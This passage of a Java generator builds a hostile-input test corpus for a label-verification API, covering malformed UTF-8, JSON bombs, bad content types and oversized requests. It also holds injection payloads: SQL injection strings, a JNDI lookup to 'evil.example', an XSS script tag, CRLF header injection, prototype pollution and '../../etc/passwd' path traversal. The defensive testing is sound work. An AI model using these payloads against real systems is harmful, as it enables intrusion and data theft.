                    r,
                    base64Body(bytes("{\"label\":\"", new byte[] {(byte) 0xC0, (byte) 0xAF}, "\"}")),
                    badJson,
                    true);
            add(
                    f,
                    "overlong-utf8-nul",
                    null,
                    r,
                    base64Body(bytes("{\"label\":\"", new byte[] {(byte) 0xC0, (byte) 0x80}, "\"}")),
                    badJson,
                    true);
            add(
                    f,
                    "invalid-utf8-ff",
                    null,
                    r,
                    base64Body(bytes("{\"label\":\"", new byte[] {(byte) 0xFF}, "\"}")),
                    badJson,
                    true);
            add(
                    f,
                    "utf8-encoded-surrogate",
                    null,
                    r,
                    base64Body(bytes("{\"label\":\"", new byte[] {(byte) 0xED, (byte) 0xA0, (byte) 0x80}, "\"}")),
                    badJson,
                    true);
            ObjectNode notB64 = json("{not base64!}");
            notB64.withObject("event").put("isBase64Encoded", true);
            add(f, "base64-flag-on-non-base64", null, r, notB64, problem(400, "bad-body"), false);
        }
        // bombs in the member each route reads first: route-specific answers
        Map<String, ObjectNode> hugeNumber = perRoute("1e1000000");
        Map<String, ObjectNode> hugeArray = perRoute(null);
        for (BodyRoute r : BODY_ROUTES) {
            String member = firstMember(r.key());
            add(
                    "json-bombs",
                    "number-1e1000000-in-" + member,
                    null,
                    r,
                    json("{\"" + member + "\":1e1000000}"),
                    hugeNumber.get(r.key()),
                    true);
            add(
                    "json-bombs",
                    "array-100k-in-" + member,
                    null,
                    r,
                    recipe("{\"" + member + "\":[", "\"x\",", 99_999, "\"x\"]}"),
                    hugeArray.get(r.key()),
                    true);
        }
    }

    private static String firstMember(String route) {
        return switch (route) {
            case "POST /v1/verify" -> "label";
            case "POST /v1/verify/batch" -> "labels";
            case "POST /v1/labels" -> "models";
            case "POST /v1/revocations" -> "vendor";
            case "POST /v1/labels/{id}/reinstatement" -> "effectiveAt";
            default -> "reason";
        };
    }

    /** The answer to a wrong-typed first member, per route. */
    private static Map<String, ObjectNode> perRoute(String number) {
        Map<String, ObjectNode> m = new LinkedHashMap<>();
        m.put("POST /v1/verify", problem(400, "bad-request"));
        m.put("POST /v1/verify/batch", number == null ? problem(400, "batch-too-large") : problem(400, "bad-request"));
        m.put("POST /v1/labels", problem(422, "invalid-application"));
        m.put("POST /v1/labels/{id}/revocation", problem(400, "bad-reason"));
        m.put("POST /v1/labels/{id}/suspension", problem(400, "bad-reason"));
        m.put("POST /v1/labels/{id}/reinstatement", problem(400, "bad-time"));
        m.put("POST /v1/revocations", problem(400, "bad-request"));
        return m;
    }

    private static byte[] bytes(String a, byte[] mid, String b) {
        return concat(concat(a.getBytes(StandardCharsets.UTF_8), mid), b.getBytes(StandardCharsets.UTF_8));
    }

    // ------------------------------------------------------------------ content types

    private void contentTypes() {
        ObjectNode unsupported = problem(415, "unsupported-media-type");
        List<String> types = Arrays.asList(
                null,
                "",
                "text/plain",
                "application/x-www-form-urlencoded",
                "multipart/form-data; boundary=x",
                "application/xml",
                "application/json-patch+json",
                "application/jsonx",
                "application/json; charset=iso-8859-1",
                "application/json; charset=utf-16",
                "application/problem+json",
                "text/json",
                "application/json\u0000",
                "*/*");
        for (BodyRoute r : BODY_ROUTES) {
            for (String ct : types) {
                ObjectNode e = json("{\"label\":\"x\"}");
                if (ct == null) e.withObject("event").withObject("headers").remove("content-type");
                else e.withObject("event").withObject("headers").put("content-type", ct);
                boolean http = ct != null && !ct.isEmpty() && !ct.contains("\u0000");
                add(
                        "content-types",
                        "content-type-" + (ct == null ? "missing" : ct.isEmpty() ? "empty" : slug(ct)),
                        null,
                        r,
                        e,
                        unsupported,
                        http);
            }
            ObjectNode noHeaders = json("{\"label\":\"x\"}");
            noHeaders.withObject("event").remove("headers");
            add("content-types", "no-headers-at-all", null, r, noHeaders, unsupported, false);
        }
        // accepted spellings of application/json reach the route (verify answers with a verdict)
        for (String ct : List.of(
                "APPLICATION/JSON", "application/json;charset=UTF-8", " application/json ; charset=\"utf-8\"")) {
            ObjectNode e = json("{\"label\":\"x\"}");
            e.withObject("event").withObject("headers").put("content-type", ct);
            add(
                    "content-types",
                    "content-type-accepted-" + slug(ct),
                    null,
                    BODY_ROUTES.get(0),
                    e,
                    F.objectNode().put("status", 200).put("verdict", "invalid").put("reason", "not-compact-jws"),
                    !ct.startsWith(" "));
        }
    }

    // ------------------------------------------------------------------ application fields

    static ObjectNode application(String applicationId) {
        return Fixtures.starOneApplication(applicationId);
    }

    private void applicationFields() {
        BodyRoute issue = BODY_ROUTES.get(2);
        ObjectNode refused = problem(422, "invalid-application");
        Map<String, Function<ObjectNode, ObjectNode>> bad = new LinkedHashMap<>();
        for (var e : ordered(
                        "nul",
                        "\u0000",
                        "rtl-override",
                        "\u202E",
                        "rtl-isolate",
                        "\u2066",
                        "zero-width-joiner",
                        "\u200D",
                        "zero-width-space",
                        "\u200B",
                        "bom",
                        "\uFEFF",
                        "lone-surrogate",
                        "\uD800",
                        "newline",
                        "\n",
                        "soft-hyphen",
                        "\u00AD",
                        "unassigned",
                        "\uFFFF")
                .entrySet()) {
            bad.put("product-" + e.getKey(), a -> a.put("product", "スマートホーム" + e.getValue() + "カメラ"));
            bad.put("vendor-" + e.getKey(), a -> a.put("vendor", "株式会社" + e.getValue() + "サクラ電機"));
            bad.put("model-" + e.getKey(), a -> a.set("models", F.arrayNode().add("SC-" + e.getValue() + "300")));
        }
        bad.put("product-leading-space", a -> a.put("product", " カメラ"));
        bad.put("product-101-chars", a -> a.put("product", "あ".repeat(101)));
        bad.put("product-10000-chars", a -> a.put("product", "x".repeat(10_000)));
        bad.put("models-21", a -> {
            ArrayNode m = F.arrayNode();
            for (int i = 0; i < 21; i++) m.add("M-" + i);
            return a.set("models", m);
        });
        bad.put(
                "models-duplicate",
                a -> a.set("models", F.arrayNode().add("SC-300").add("SC-300")));
        bad.put("models-empty", a -> a.set("models", F.arrayNode()));
        bad.put(
                "models-not-strings",
                a -> a.set("models", F.arrayNode().add(1).addNull().addObject()));
        bad.put("supportEnd-feb-30", a -> a.put("supportEnd", "2031-02-30"));
        bad.put("supportEnd-year-999999999", a -> a.put("supportEnd", "+999999999-12-31"));
        bad.put("supportEnd-fullwidth-digits", a -> a.put("supportEnd", "２０３１-０３-３１"));
        bad.put("supportEnd-past", a -> a.put("supportEnd", "2020-01-01"));
        bad.put("supportEnd-year-9999", a -> a.put("supportEnd", "9999-12-31"));
        bad.put("level-1e1000000", a -> a.set("level", F.numberNode(Double.POSITIVE_INFINITY)));
        bad.put("level-string", a -> a.put("level", "1"));
        bad.put("level-fraction", a -> a.put("level", 1.5));
        bad.put("level-huge-integer", a -> a.set("level", F.numberNode(new BigInteger("99999999999999999999"))));
        bad.put("level-negative", a -> a.put("level", -1));
        bad.put("level-5", a -> a.put("level", 5));
        bad.put("category-unknown", a -> a.put("category", "camera\u202E"));
        bad.put("applicationId-nul", a -> a.put("applicationId", "APP\u0000-1"));
        bad.put("applicationId-path", a -> a.put("applicationId", "../../etc/passwd"));
        bad.put("applicationId-encoded-path", a -> a.put("applicationId", "%2e%2e%2fetc"));
        bad.put("applicationId-10000-chars", a -> a.put("applicationId", "A".repeat(10_000)));
        bad.put("applicationId-empty", a -> a.put("applicationId", ""));
        bad.put("applicationId-rtl", a -> a.put("applicationId", "APP\u202E1"));
        bad.put("unknown-member", a -> a.put("admin", true));
        bad.put("proto-member", a -> a.set("__proto__", F.objectNode().put("admin", true)));
        bad.put("declaration-string", a -> a.put("declaration", "all good"));
        bad.put("declaration-nested-30", a -> a.set("declaration", nested(28)));
        int i = 0;
        for (var e : bad.entrySet()) {
            ObjectNode app = e.getValue().apply(application("HOSTILE-" + (++i)));
            // a lone surrogate travels as a JSON escape (raw, it is not even UTF-8)
            String body = app.toString().replace("Infinity", "1e1000000").replace("\uD800", "\\ud800");
            boolean http = !body.contains("\uD800");
            add("application-fields", e.getKey(), null, issue, json(body), refused, http);
        }
        // path-looking model designations are data, not paths: issued like any other (the model profile
        // refuses % $ { }, so "%2e%2e%2f" and "${jndi:x}" no longer get this far)
        ObjectNode ok = application("HOSTILE-PATHS")
                .set(
                        "models",
                        F.arrayNode()
                                .add("../../etc/passwd")
                                .add("./SC-300/../x")
                                .add("..//..//"));
        add(
                "application-fields",
                "models-look-like-paths-are-just-data",
                null,
                issue,
                json(ok.toString()),
                F.objectNode().put("status", 201),
                true);
    }

    /** Map.of iterates in a different order each run; golden files must not. */
    private static Map<String, String> ordered(String... kv) {
        Map<String, String> m = new LinkedHashMap<>();
        for (int i = 0; i < kv.length; i += 2) m.put(kv[i], kv[i + 1]);
        return m;
    }

    private static ObjectNode nested(int depth) {
        ObjectNode root = F.objectNode();
        ObjectNode cur = root;
        for (int d = 0; d < depth; d++) cur = cur.putObject("a");
        return root;
    }

    // ------------------------------------------------------------------ search parameters

    private void searchParams() {
        ObjectNode badQuery = problem(400, "bad-query");
        ObjectNode ok = F.objectNode().put("status", 200);
        for (String param : List.of("vendor", "model", "product")) {
            for (var e : ordered(
                            "nul",
                            "\u0000",
                            "rtl-override",
                            "\u202E",
                            "zero-width-joiner",
                            "\u200D",
                            "lone-surrogate",
                            "\uD800",
                            "newline",
                            "\n",
                            "bom",
                            "\uFEFF",
                            "escape",
                            "\u001B[31m")
                    .entrySet()) {
                search(param + "-" + e.getKey(), Map.of(param, "サクラ" + e.getValue() + "電機"), badQuery);
            }
            search(param + "-101-chars", Map.of(param, "a".repeat(101)), badQuery);
            search(param + "-sql", Map.of(param, "' OR '1'='1' --"), ok);
            search(param + "-like-wildcards", Map.of(param, "%_%"), ok);
            search(param + "-jndi", Map.of(param, "${jndi:ldap://evil.example/a}"), ok);
            search(param + "-replacement-char-from-overlong-utf8", Map.of(param, "\uFFFD\uFFFD"), ok);
            search(param + "-fullwidth", Map.of(param, "ＳＣ－３００"), ok);
        }
        for (String v : List.of("0", "5", "1e1000000", "\u0663", "1,2", "01", "-1", " 1", "1.0", "\uFF11")) {
            search("level-" + slug(v) + "-" + Integer.toHexString(v.hashCode()), Map.of("level", v), badQuery);
        }
        for (String v : List.of("0", "201", "-1", "99999999999999999999", "\u0661\u0660", "1e2", "10abc", "\uFF15")) {
            search("limit-" + slug(v) + "-" + Integer.toHexString(v.hashCode()), Map.of("limit", v), badQuery);
        }
        search("limit-200", Map.of("limit", "200"), ok);
        search("limit-0200", Map.of("limit", "0200"), ok);
        for (String v : List.of("VALID", "invalid", "unknown", "valid\u0000", "revoked,valid", "*")) {
            search("status-" + slug(v) + "-" + Integer.toHexString(v.hashCode()), Map.of("status", v), badQuery);
        }
        for (String v : List.of("camera\u202E", "CAMERA", "../camera", "camera\u0000")) {
            search("category-" + slug(v) + "-" + Integer.toHexString(v.hashCode()), Map.of("category", v), badQuery);
        }
        ObjectNode badCursor = problem(400, "bad-cursor");
        search("cursor-garbage", Map.of("cursor", "!!!"), badCursor);
        search("cursor-blank", Map.of("cursor", " "), badCursor);
        search(
                "cursor-wrong-tag",
                Map.of("cursor", B64.encode("c9:JC26-AAAAAAAA".getBytes(StandardCharsets.UTF_8))),
                badCursor);
        search(
                "cursor-path",
                Map.of("cursor", B64.encode("c1:../../etc/passwd".getBytes(StandardCharsets.UTF_8))),
                badCursor);
        search(
                "cursor-sql",
                Map.of("cursor", B64.encode("c1:' OR 1=1 --".getBytes(StandardCharsets.UTF_8))),
                badCursor);
        search("cursor-2000-chars", Map.of("cursor", "A".repeat(2000)), badCursor);
        search("cursor-2049-chars", Map.of("cursor", "A".repeat(2049)), problem(414, "uri-too-long"));
        search("cursor-nul", Map.of("cursor", "YzE6\u0000"), badCursor);
        search(
                "unknown-parameters-refused",
                ordered("admin", "true", "__proto__", "x"),
                problem(400, "unknown-parameter"));
    }

    private void search(String name, Map<String, String> query, ObjectNode expect) {
        boolean http = query.values().stream().noneMatch(v -> v.chars().anyMatch(ch -> ch >= 0xD800 && ch <= 0xDFFF));
        ObjectNode e = event("GET", "GET /v1/labels", "/v1/labels", Map.of(), query, null, false);
        add("search-params", name, null, "GET /v1/labels", e, null, expect, http);
    }

    // ------------------------------------------------------------------ change feed and bid check (search function)

    private void changeFeedAndBidCheck() {
        ObjectNode badQuery = problem(400, "bad-query");
        ObjectNode badCursor = problem(400, "bad-cursor");
        ObjectNode ok = F.objectNode().put("status", 200);
        changes("changes-after-garbage", Map.of("after", "!!!"), badCursor);
        changes(
                "changes-after-search-cursor",
                Map.of("after", B64.encode("c1:JC26-AAAAAAAA".getBytes(StandardCharsets.UTF_8))),
                badCursor);
        changes(
                "changes-after-forged-position",
                Map.of(
                        "after",
                        B64.encode("cf1|h0000000000000000001|0000000000000000|0000000000000000"
                                .getBytes(StandardCharsets.UTF_8))),
                badCursor);
        changes("changes-after-513-chars", Map.of("after", "A".repeat(513)), badCursor);
        changes("changes-vendor-nul", Map.of("vendor", "サクラ\u0000電機"), badQuery);
        changes("changes-model-rtl-override", Map.of("model", "SC\u202E300"), badQuery);
        changes("changes-limit-1001", Map.of("limit", "1001"), badQuery);
        changes("changes-limit-0", Map.of("limit", "0"), badQuery);
        changes("changes-vendor-sql", Map.of("vendor", "' OR '1'='1' --"), ok);
        changes("changes-unknown-parameter", Map.of("cursor", "x"), problem(400, "unknown-parameter"));
        StringBuilder many = new StringBuilder("{\"models\":[");
        for (int i = 0; i <= 500; i++)
            many.append(i == 0 ? "" : ",").append("\"M-").append(i).append('"');
        bidCheck("models-501", many.append("]}").toString(), problem(400, "batch-too-large"));
        bidCheck("models-not-array", "{\"models\":\"SC-300\"}", problem(400, "bad-request"));
        bidCheck("models-empty", "{\"models\":[]}", problem(400, "bad-request"));
        bidCheck("models-number", "{\"models\":[300]}", problem(400, "bad-request"));
        bidCheck("model-rtl-override", "{\"models\":[\"SC\u202E300\"]}", badQuery);
        bidCheck("model-only-dashes", "{\"models\":[\"---\"]}", badQuery);
        bidCheck("min-level-string", "{\"models\":[\"SC-300\"],\"minLevel\":\"1\"}", badQuery);
        bidCheck("min-level-5", "{\"models\":[\"SC-300\"],\"minLevel\":5}", badQuery);
        bidCheck("support-until-feb-30", "{\"models\":[\"SC-300\"],\"supportUntil\":\"2029-02-30\"}", badQuery);
        bidCheck(
                "support-until-instant",
                "{\"models\":[\"SC-300\"],\"supportUntil\":\"2029-03-31T00:00:00Z\"}",
                badQuery);
        bidCheck("models-sql", "{\"models\":[\"' OR 1=1 --\"],\"vendor\":\"%_%\"}", ok);
    }

    private void changes(String name, Map<String, String> query, ObjectNode expect) {
        ObjectNode e = event("GET", "GET /v1/changes", "/v1/changes", Map.of(), query, null, false);
        add("search-params", name, null, "GET /v1/changes", e, null, expect, true);
    }

    private void bidCheck(String name, String body, ObjectNode expect) {
        ObjectNode e = event("POST", "POST /v1/models/check", "/v1/models/check", Map.of(), null, body, false);
        add("search-params", name, null, "POST /v1/models/check", e, null, expect, true);
    }

    // ------------------------------------------------------------------ path tricks in ids

    private void pathTricks() {
        ObjectNode notFound = problem(404, "not-found");
        // decoded path parameter → raw path segment (null: percent-encode the decoded value)
        Map<String, String> ids = new LinkedHashMap<>();
        ids.put(ABSENT_ID, null);
        ids.put("..", "..");
        ids.put(".", ".");
        ids.put("../../etc/passwd", "..%2F..%2Fetc%2Fpasswd");
        ids.put("..\\..\\windows", "..%5C..%5Cwindows");
        ids.put("%2e%2e", "%252e%252e");
        ids.put("..%2f..%2f", "%2e%2e%252f%2e%2e%252f");
        ids.put(ABSENT_ID + "\u0000", ABSENT_ID + "%00");
        ids.put(ABSENT_ID + "\u0000.png", ABSENT_ID + "%00.png");
        ids.put("JC26-abcdefgh", null);
        ids.put("ＪＣ２６-ＡＢＣＤＥＦＧＨ", null);
        ids.put("JC26-" + "A".repeat(10_000), null);
        ids.put("JC26-ABCD\u202EHGFE", null);
        ids.put("JC26-ABCD\u200DEFGH", null);
        ids.put("JC26-ABCD\uD800", "JC26-ABCD%ED%A0%80");
        ids.put("' OR '1'='1", null);
        ids.put("${jndi:ldap://evil.example/a}", null);
        ids.put("<script>alert(1)</script>", null);
        ids.put("JC26-ABCDEFGH\r\nSet-Cookie: x=1", null);
        int i = 0;
        for (var e : ids.entrySet()) {
            String decoded = e.getKey();
            String raw = e.getValue() != null
                    ? e.getValue()
                    : URLEncoder.encode(decoded, StandardCharsets.UTF_8).replace("+", "%20");
            boolean http = decoded.chars().noneMatch(ch -> ch >= 0xD800 && ch <= 0xDFFF);
            String name = "id-" + (++i) + "-" + slug(decoded.length() > 40 ? decoded.substring(0, 40) : decoded);
            for (String route : LABEL_GET_ROUTES) {
                String rawPath = route.substring(4).replace("{id}", raw);
                add(
                        "path-tricks",
                        name,
                        null,
                        route,
                        event("GET", route, rawPath, Map.of("id", decoded), null, null, false),
                        null,
                        notFound,
                        http);
            }
            for (String route : LABEL_CHANGE_ROUTES) {
                String rawPath = route.substring(5).replace("{id}", raw);
                ObjectNode ev = event(
                        "POST", route, rawPath, Map.of("id", decoded), null, "{\"reason\":\"nonconformity\"}", true);
                add("path-tricks", name, null, route, ev, null, notFound, http);
            }
        }
        ObjectNode badNumber = problem(400, "bad-list-number");
        for (String n : List.of(
                "0",
                "-1",
                "1e3",
                "0x10",
                "\uFF11",
                "\u0661",
                "99999999999",
                "..",
                "1\u0000",
                "01",
                " 1",
                "1.0",
                "%31")) {
            String raw = URLEncoder.encode(n, StandardCharsets.UTF_8).replace("+", "%20");
            add(
                    "path-tricks",
                    "status-list-" + slug(n) + "-" + Integer.toHexString(n.hashCode()),
                    null,
                    "GET /v1/status-lists/{n}",
                    event(
                            "GET",
                            "GET /v1/status-lists/{n}",
                            "/v1/status-lists/" + raw,
                            Map.of("n", n),
                            null,
                            null,
                            false),
                    null,
                    badNumber,
                    true);
        }
        add(
                "path-tricks",
                "status-list-never-used",
                null,
                "GET /v1/status-lists/{n}",
                event(
                        "GET",
                        "GET /v1/status-lists/{n}",
                        "/v1/status-lists/999999",
                        Map.of("n", "999999"),
                        null,
                        null,
                        false),
                null,
                notFound,
                true);
    }

    // ------------------------------------------------------------------ oversized requests

    private void oversizedRequests() {
        ObjectNode tooLarge = problem(413, "body-too-large");
        int max = 5 * 1024 * 1024;
        for (BodyRoute r : BODY_ROUTES) {
            add("oversized", "body-10-mib", null, r, recipe("{\"x\":\"", "a", 10 * 1024 * 1024, "\"}"), tooLarge, true);
            add(
                    "oversized",
                    "body-limit-plus-one",
                    null,
                    r,
                    recipe("{\"x\":\"", "a", max + 1 - 8, "\"}"),
                    tooLarge,
                    true);
            ObjectNode b64 = recipe("{\"x\":\"", "a", max + 1 - 8, "\"}");
            b64.withObject("event").put("isBase64Encoded", true);
            add("oversized", "base64-body-limit-plus-one", null, r, b64, tooLarge, false);
        }
        // query strings and paths longer than any real request needs
        ObjectNode uriTooLong = problem(414, "uri-too-long");
        List<String> routes = new ArrayList<>(PLAIN_GET_ROUTES);
        routes.addAll(LABEL_GET_ROUTES);
        routes.add("GET /v1/status-lists/{n}");
        routes.add("POST /v1/verify");
        for (String route : routes) {
            String method = route.substring(0, route.indexOf(' '));
            String path = route.substring(method.length() + 1)
                    .replace("{id}", ABSENT_ID)
                    .replace("{n}", "1");
            Map<String, String> params = route.contains("{id}")
                    ? Map.of("id", ABSENT_ID)
                    : route.contains("{n}") ? Map.of("n", "1") : Map.of();
            ObjectNode e = event(
                    method,
                    route,
                    path,
                    params,
                    Map.of("q", "x".repeat(5000)),
                    method.equals("POST") ? "{\"label\":\"x\"}" : null,
                    false);
            add("oversized", "query-5000-chars", null, route, e, null, uriTooLong, true);
            ObjectNode many = event(
                    method,
                    route,
                    path,
                    params,
                    manyParams(),
                    method.equals("POST") ? "{\"label\":\"x\"}" : null,
                    false);
            add("oversized", "query-300-parameters", null, route, many, null, uriTooLong, true);
        }
    }

    private static Map<String, String> manyParams() {
        Map<String, String> m = new LinkedHashMap<>();
        for (int i = 0; i < 300; i++) m.put("p" + i, "1");
        return m;
    }

    // ------------------------------------------------------------------ events

    private static ObjectNode problem(int status, String code) {
        return F.objectNode().put("status", status).put("type", "/problems/" + code);
    }

    /** A body-route event holder: the event for {@code body}, to be bound to a route by {@link #add}. */
    private static ObjectNode json(String body) {
        ObjectNode holder = F.objectNode();
        ObjectNode e = holder.putObject("event");
        e.putObject("headers").put("content-type", "application/json");
        if (body != null) e.put("body", body);
        else e.putNull("body");
        e.put("isBase64Encoded", false);
        return holder;
    }

    private static ObjectNode base64Body(byte[] body) {
        ObjectNode h = json(Base64.getEncoder().encodeToString(body));
        h.withObject("event").put("isBase64Encoded", true);
        return h;
    }

    private static ObjectNode recipe(String prefix, String unit, int times, String suffix) {
        ObjectNode h = json(null);
        h.putObject("bodyRecipe")
                .put("prefix", prefix)
                .put("unit", unit)
                .put("times", times)
                .put("suffix", suffix);
        return h;
    }

    /** json()/recipe() holders edit only headers/body; this binds them to a body route. */
    private void add(
            String file, String name, String variant, BodyRoute r, ObjectNode holder, ObjectNode expect, boolean http) {
        ObjectNode h = holder.deepCopy();
        ObjectNode partial = (ObjectNode) h.get("event");
        ObjectNode e = event(r.method(), r.key(), r.rawPath(), r.params(), null, null, r.operator());
        // holder fields win: headers (content type), body, base64 flag
        if (partial.has("headers")) {
            ObjectNode headers = (ObjectNode) e.get("headers");
            headers.remove("content-type");
            headers.setAll((ObjectNode) partial.get("headers"));
        } else {
            e.remove("headers");
        }
        e.set("body", partial.get("body"));
        e.set("isBase64Encoded", partial.get("isBase64Encoded"));
        if (h.has("bodyRecipe") && !e.get("isBase64Encoded").asBoolean()) e.putNull("body");
        add(file, name, variant, r.key(), e, (ObjectNode) h.get("bodyRecipe"), expect, http);
    }

    private void add(
            String file,
            String name,
            String variant,
            String route,
            ObjectNode event,
            ObjectNode recipe,
            ObjectNode expect,
            boolean http) {
        if (recipe != null) event.putNull("body");
        ObjectNode c = F.objectNode();
        c.put("name", file + "/" + name + (variant == null ? "" : "/" + variant) + " @ " + route);
        c.put("family", file);
        c.put("route", route);
        c.set("event", event);
        if (recipe != null) c.set("bodyRecipe", recipe);
        if (!http) c.put("http", false);
        c.set("expect", expect);
        files.computeIfAbsent(file, k -> new ArrayList<>()).add(c);
    }

    /** An API Gateway HTTP API payload 2.0 event, shaped as API Gateway sends it. */
    private ObjectNode event(
            String method,
            String routeKey,
            String rawPath,
            Map<String, String> pathParams,
            Map<String, String> query,
            String body,
            boolean operator) {
        ObjectNode e = F.objectNode();
        e.put("version", "2.0");
        e.put("routeKey", routeKey);
        e.put("rawPath", rawPath);
        StringBuilder rq = new StringBuilder();
        if (query != null) {
            for (var q : query.entrySet()) {
                if (!rq.isEmpty()) rq.append('&');
                rq.append(URLEncoder.encode(q.getKey(), StandardCharsets.UTF_8))
                        .append('=')
                        .append(encodeQuery(q.getValue()));
            }
        }
        e.put("rawQueryString", rq.toString());
        ObjectNode h = e.putObject("headers");
        h.put("accept", "application/json");
        if (body != null) h.put("content-type", "application/json");
        h.put("host", "hostile0001.execute-api.ap-northeast-1.amazonaws.com");
        h.put("user-agent", "hostile-corpus/1");
        h.put("x-forwarded-for", "203.0.113.9");
        if (query != null && !query.isEmpty()) {
            ObjectNode q = e.putObject("queryStringParameters");
            query.forEach(q::put);
        }
        if (!pathParams.isEmpty()) {
            ObjectNode pp = e.putObject("pathParameters");
            pathParams.forEach(pp::put);
        }
        ObjectNode ctx = e.putObject("requestContext");
        ctx.put("accountId", "123456789012");
        ctx.put("apiId", "hostile0001");
        if (operator) {
            ctx.putObject("authorizer")
                    .putObject("iam")
                    .put("accessKey", "ASIAEXAMPLEKEY")
                    .put("accountId", "123456789012")
                    .put("callerId", "AROAEXAMPLEID:operator-session")
                    .put("userArn", "arn:aws:sts::123456789012:assumed-role/JcstarOperator/operator-session")
                    .put("userId", "AROAEXAMPLEID:operator-session");
        }
        ctx.put("domainName", "hostile0001.execute-api.ap-northeast-1.amazonaws.com");
        ctx.putObject("http")
                .put("method", method)
                .put("path", rawPath)
                .put("protocol", "HTTP/1.1")
                .put("sourceIp", "203.0.113.9")
                .put("userAgent", "hostile-corpus/1");
        ctx.put("requestId", "hostile-" + (++requestIds));
        ctx.put("routeKey", routeKey);
        ctx.put("stage", "$default");
        ctx.put("timeEpoch", NOW.toEpochMilli());
        if (body != null) e.put("body", body);
        e.put("isBase64Encoded", false);
        return e;
    }

    private static String encodeQuery(String v) {
        StringBuilder sb = new StringBuilder();
        v.codePoints().forEach(cp -> {
            if (cp >= 0xD800 && cp <= 0xDFFF)
                sb.append("%ED%A0%80"); // a lone surrogate: the CESU bytes a careless client sends
            else sb.append(URLEncoder.encode(Character.toString(cp), StandardCharsets.UTF_8));
        });
        return sb.toString();
    }
}
